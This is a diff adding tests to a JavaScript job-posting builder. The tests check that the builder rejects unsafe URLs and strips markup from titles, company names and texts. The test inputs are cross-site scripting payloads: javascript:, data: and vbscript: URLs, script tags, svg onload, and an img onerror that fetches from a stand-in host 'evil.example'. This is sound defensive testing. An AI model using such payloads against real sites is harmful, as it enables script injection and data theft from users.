@@ -46,6 +46,27 @@ test('texts stand below each other, each tagged or not', () => {
   expect(build({ texts }).description).toBe('Plain & simple\n- One\n- Two\nEscaped')
 })
 
+test.each([
+  ...['javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x'],
+  ...[
+    '//evil.example/1',
+    'http://user:pw@acme.example/7',
+    'https://acme.example\\@evil.example/',
+    ' java\tscript:x',
+  ],
+])('[SRC-002] %j is no address of a posting', url => {
+  expect(buildPosting({ ...PARTS, urls: [url] }, NOW)).toEqual({ ok: false, reason: 'bad-address' })
+})
+
+test('[SRC-001] what a title, a company and a text hold of markup is gone', () => {
+  const { title, company, description } = build({
+    title: '<img src=x onerror=fetch("//evil.example")>Baker',
+    company: 'Acme<script>alert(1)</script>',
+    texts: ['<p>You bake.</p><script>alert(1)</script><svg onload=alert(2)>'],
+  })
+  expect([title, company, description]).toEqual(['Baker', 'Acme', 'You bake.'])
+})
+
 test('the first address that can be opened is kept', () => {
   const urls = [7, 'ftp://a.example', 'https://acme.example/7#apply', 'https://acme.example/8']
   expect(build({ urls }).url).toBe('https://acme.example/7')
